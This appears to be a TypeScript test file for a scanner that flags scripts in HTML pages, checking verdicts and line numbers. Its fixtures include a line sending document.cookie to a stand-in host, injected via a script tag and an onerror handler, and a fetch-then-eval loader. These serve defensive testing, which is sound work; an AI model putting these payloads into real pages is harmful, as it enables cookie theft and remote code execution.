// Scripts that stand in pages of HTML: judged as programs, at the lines of the page.
import { describe, expect, it } from 'vitest';
import { decision, judged } from './support.ts';

const SENT = 'fetch("https://c.example.invalid/?c=" + document.cookie)';

describe('a page in HTML', () => {
  it.each<readonly [how: string, page: string, expected: 'block' | 'review' | 'pass']>([
    ['a script that sends cookies', `<html><body><script>${SENT}</script></body></html>`, 'review'],
    ['a handler that sends them', `<img src=x onerror='${SENT}'>`, 'review'],
    [
      'a script that runs what it fetches, behind one that is broken',
      `<script>var a = {{ value }};</script>\n<script>fetch("https://c.example.invalid/").then((r) => r.text()).then((t) => eval(t));</script>`,
      'block',
    ],
    [
      'a module of another host, as any page has',
      `<script type="module">import x from "https://example.com/m.js"; x();</script>`,
      'pass',
    ],
    ['data that is no script', `<script type="application/json">${SENT}</script>`, 'pass'],
    ['a text about it', `<pre>${SENT}</pre><p>cookie</p>`, 'pass'],
    [
      'what a page keeps to itself',
      `<script>localStorage.setItem("theme", "dark"); document.cookie = "theme=dark"; fetch("https://example.com/a.json");</script>`,
      'pass',
    ],
    [
      'where pages are counted',
      `<script>navigator.sendBeacon("https://www.google-analytics.com/collect", document.cookie);</script>`,
      'pass',
    ],
    ['a template that is no program', '<script>{% if cookie %}eval({{ x }}{% endif %}</script>', 'pass'],
  ])('%s', async (_, page, expected) => {
    expect(await decision('web/index.html', page)).toBe(expected);
  });

  it('says the line of the page', async () => {
    const page = `<html>\n<script>\nvar cookie;\n</script>\n<p>\n</p><script>\n\n${SENT}\n</script>\n</html>\n`;
    const findings = await judged('docs/index.html', page);
    expect(findings.map(({ rule, location }) => [rule, location.line])).toEqual([['CODE-SURVEILLANCE', 8]]);
  });

  it('leaves libraries in a page alone, and reads what is beside them', async () => {
    const library = `<script>var a = ${'"x" + '.repeat(20_000)}eval("1"), cookie;</script>\n`.repeat(20);
    const findings = await judged('plot.html', `${library}<script>${SENT}</script>`);
    expect(findings.map(({ rule, location, severity }) => [rule, location.line, severity])).toEqual([
      ['CODE-SURVEILLANCE', 21, 'MEDIUM'],
      ['SCAN-INCOMPLETE', undefined, 'LOW'],
    ]);
  });
});
